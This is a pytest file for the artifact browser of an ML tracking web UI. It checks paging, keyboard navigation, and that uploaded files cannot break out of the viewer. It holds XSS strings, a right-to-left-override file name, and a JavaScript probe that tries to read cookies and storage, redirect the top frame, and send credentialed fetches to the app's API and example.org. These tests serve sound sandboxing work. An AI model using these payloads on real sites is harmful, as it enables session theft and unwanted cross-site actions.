"""The tree of a run's files, what is shown of the chosen one, and that nothing in it reaches out."""

from __future__ import annotations

import os
import re
import sqlite3
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from playwright.sync_api import expect

from reprise.schemas.entities import ModelLink, Run
from reprise.tracking.sqlite.store import EmbeddedStore
from tests.ui.asking import Ask
from tests.ui.conftest import Opened, Serve, accessible, keep_picture, settled
from tests.ui.sample import HOSTILE, Sample

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Route


@pytest.fixture
def run(store: EmbeddedStore) -> Run:
    return store.create_run("0", start_time=1, user_id="ada", run_name="files")


def _put(store: EmbeddedStore, owner: str, path: str, content: bytes = b"") -> None:
    with store.artifacts_of(owner).writing(path) as file:
        file.write(content)


def test_a_run_without_files_says_how_to_store_one(run: Run, ask: Ask) -> None:
    assert "mlflow.log_artifact" in ask(f"/runs/{run.run_id}/artifacts").text


def test_a_large_folder_is_listed_in_parts(store: EmbeddedStore, run: Run, ask: Ask) -> None:
    folder = store.artifact_folder(run.run_id) / "many"
    folder.mkdir(parents=True)
    for number in range(1300):
        (folder / f"{number:05}.txt").touch()
    first = ask(f"/runs/{run.run_id}/files?path=many").text
    assert first.count('role="treeitem"') == 500
    assert "1,300 in total" in first and 'data-from="500"' in first and "Previous files" not in first
    last = ask(f"/runs/{run.run_id}/files?path=many&from=1000").text
    assert last.count('role="treeitem"') == 300 and "Next files" not in last
    # a link to a file opens the part that it is in
    page = ask(f"/runs/{run.run_id}/artifacts?path=many/00777.txt").text
    assert 'data-path="many/00777.txt"' in page and 'data-path="many/00499.txt"' not in page


def test_files_that_are_kept_elsewhere_are_not_looked_for(
    store: EmbeddedStore, run: Run, ask: Ask, tmp_path: Path
) -> None:
    with sqlite3.connect(tmp_path / "mlruns" / "reprise.db") as database:
        database.execute("UPDATE run SET artifact_uri = 's3://bucket/files'")
    database.close()
    answer = ask(f"/runs/{run.run_id}/artifacts")
    assert answer.status_code == 200
    assert "The files of this run are not available" in answer.text and "s3://bucket/files" in answer.text


def test_the_files_of_a_logged_model_are_among_those_of_its_run(
    store: EmbeddedStore, run: Run, ask: Ask
) -> None:
    model = store.create_logged_model("0", name="forest", source_run_id=run.run_id)
    other = store.create_logged_model("0", name="not of this run")
    store.log_outputs(run.run_id, [ModelLink(model.model_id, 0)])
    _put(store, model.model_id, "MLmodel", b"flavors: {sklearn: {}}")
    page = ask(f"/runs/{run.run_id}/artifacts?owner={model.model_id}&path=MLmodel").text
    assert "Model forest" in page and f"models:/{model.model_id}" in page
    assert (
        "The file does not exist" in ask(f"/runs/{run.run_id}/artifacts?owner={other.model_id}&path=a").text
    )


def test_names_and_contents_are_text_whatever_they_hold(store: EmbeddedStore, run: Run, ask: Ask) -> None:
    name = HOSTILE.replace("/", "_")[:120]
    for path in (name, f"{name}.csv", f"{name}.json", f"{name}.txt"):
        _put(store, run.run_id, path, b'"<script>owned()</script>"\n"<img src=x onerror=owned()>"\n')
    _put(store, run.run_id, "MLmodel", b"flavors: {'<script>owned()</script>': {}}")
    for artifact in store.list_artifacts(run.run_id):
        page = ask(f"/runs/{run.run_id}/artifacts?path={artifact.path}").text
        assert "<script>owned" not in page and "<img src=x" not in page and "<script>document" not in page


def test_no_name_is_read_backwards(store: EmbeddedStore, run: Run, ask: Ask) -> None:
    _put(store, run.run_id, "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe", b"x")
    page = ask(f"/runs/{run.run_id}/artifacts?path=%E2%80%AEgnp.exe").text
    assert page.count("\\u202egnp.exe") >= 3  # twice in the tree
    assert "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe</" not in page


def test_a_name_that_is_no_text_is_listed(store: EmbeddedStore, run: Run, ask: Ask) -> None:
    folder = store.artifact_folder(run.run_id)
    folder.mkdir(parents=True)
    with open(os.fsencode(folder) + b"/caf\xe9.txt", "wb"):  # noqa: PTH123 (a name that is bytes)
        pass
    assert "caf?.txt" in ask(f"/runs/{run.run_id}/artifacts").text


@pytest.mark.browser
@pytest.mark.parametrize("theme", ("light", "dark"))
def test_files_are_gone_through_by_keyboard(sample: Sample, opened: Opened, theme: str) -> None:
    page = opened(f"{sample.url}/runs/{sample.runs[-1].run_id}/artifacts", theme=theme)
    page.get_by_role("treeitem").first.focus()
    page.keyboard.press("ArrowRight")
    page.get_by_role("treeitem", name="MLmodel").wait_for()
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    page.get_by_text("mlflow.pyfunc.load_model").wait_for()
    expect(page).to_have_url(re.compile("path=model%2FMLmodel"))
    accessible(page)
    keep_picture(page, f"artifacts-{theme}")
    page.get_by_role("treeitem", name="report").get_by_role("link").first.click()
    page.get_by_role("treeitem", name="table.csv").get_by_role("link").click()
    page.get_by_role("cell", name="versicolor").wait_for()
    accessible(page)
    page.get_by_role("treeitem", name="confusion.png").get_by_role("link").click()
    assert (
        page.get_by_role("img", name="confusion.png").evaluate(
            "image => image.decode().then(() => image.naturalWidth)"
        )
        == 60
    )
    page.go_back()
    page.get_by_role("cell", name="versicolor").wait_for()
    page.get_by_role("treeitem", name="summary.json").get_by_role("link").click()
    page.get_by_text("scores").wait_for()
    accessible(page)
    with page.expect_download() as download:
        page.get_by_role("link", name="Download").click()
    assert download.value.suggested_filename == "summary.json"
    page.reload()
    page.get_by_text("scores").wait_for()


@pytest.mark.browser
def test_a_large_folder_is_paged_through(
    store: EmbeddedStore, run: Run, serve: Serve, opened: Opened, tmp_path: Path
) -> None:
    folder = store.artifact_folder(run.run_id) / "many"
    folder.mkdir(parents=True)
    for number in range(1300):
        (folder / f"{number:05}.txt").write_text(f"file {number}")
    page = opened(f"{serve(tmp_path / 'mlruns')}/runs/{run.run_id}/artifacts")
    page.get_by_role("treeitem", name="many").get_by_role("link").click()
    page.get_by_role("button", name="Next files (1,300 in total)").click()
    page.locator("[data-path='many/00777.txt'] a").click()
    page.get_by_text("file 777", exact=True).wait_for()
    accessible(page)
    expect(page.get_by_role("button", name="Previous files")).to_have_count(1)


@pytest.mark.browser
def test_the_first_file_of_a_run_appears_while_one_waits_for_it(
    store: EmbeddedStore, run: Run, serve: Serve, opened: Opened, tmp_path: Path
) -> None:
    page = opened(f"{serve(tmp_path / 'mlruns')}/runs/{run.run_id}/artifacts")
    page.get_by_role("heading", name="This run has no files").wait_for()
    _put(store, run.run_id, "first.txt", b"here")
    store.update_run(run.run_id, status="FINISHED", end_time=2)
    page.get_by_role("treeitem", name="first.txt").wait_for()


@pytest.mark.browser
def test_a_folder_that_is_slow_to_come_is_opened_once(
    store: EmbeddedStore, run: Run, serve: Serve, opened: Opened, tmp_path: Path
) -> None:
    _put(store, run.run_id, "folder/inside.txt", b"here")
    page = opened(f"{serve(tmp_path / 'mlruns')}/runs/{run.run_id}/artifacts")
    held: list[Route] = []
    page.route("**/files?**", lambda route: held.append(route))
    folder = page.get_by_role("treeitem", name="folder").first
    with page.expect_request("**/files?**"):
        folder.get_by_role("link").dblclick()
    folder.press("ArrowRight")
    for each in held:
        each.continue_()
    page.get_by_role("treeitem", name="inside.txt").wait_for()
    settled(page)
    assert len(held) == 1
    assert folder.get_by_role("group").count() == 1


_ATTACK = """
const told = [];
const tries = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  open: () => { if (!open('/experiments')) throw 'no window'; },
  top: () => { top.location = '/owned'; },
};
for (const [name, attempt] of Object.entries(tries)) {
  try { attempt(); told.push(name + ' worked'); } catch { told.push(name + ' refused'); }
}
Promise.all(['/ajax-api/2.0/mlflow/experiments/search', 'https://example.org/'].map((url) =>
  fetch(url, {method: 'POST', body: '{}', credentials: 'include'})
    .then(() => told.push('fetch worked'), () => told.push('fetch refused'))
)).then(() => { document.documentElement.append(told.join(', ')); document.title = told.join(', '); });
"""
_TRIED = ("cookie", "storage", "parent", "open", "top", "fetch", "fetch")
_REFUSED = ", ".join(f"{name} refused" for name in _TRIED)


@pytest.mark.browser
def test_a_hostile_file_reaches_nothing(
    store: EmbeddedStore, run: Run, serve: Serve, chromium: Browser, tmp_path: Path
) -> None:
    _put(store, run.run_id, "a.html", f"<!doctype html><script>{_ATTACK}</script>".encode())
    _put(store, run.run_id, "alone.html", b"<!doctype html><p>a page")
    _put(store, run.run_id, "alone.svg", b'<svg xmlns="http://www.w3.org/2000/svg"/>')
    url = serve(tmp_path / "mlruns")
    context = chromium.new_context()
    context.add_cookies([{"name": "secret", "value": "1", "url": url}])
    try:
        page = context.new_page()
        address = f"{url}/runs/{run.run_id}/artifacts?path=a.html"
        page.goto(address)
        frame = page.frame_locator("iframe.framed")
        frame.get_by_text("refused").wait_for()
        assert frame.locator("html").inner_text() == _REFUSED
        assert page.url == address and "owned" not in page.title()
        for name in ("alone.html", "alone.svg"):  # not in a frame, but as a page of its own
            page.goto(f"{url}/runs/{run.run_id}/raw/{name}")
            assert page.evaluate("origin") == "null"
            assert (
                page.evaluate("(() => { try { return document.cookie } catch { return null } })()") is None
            )
    finally:
        context.close()
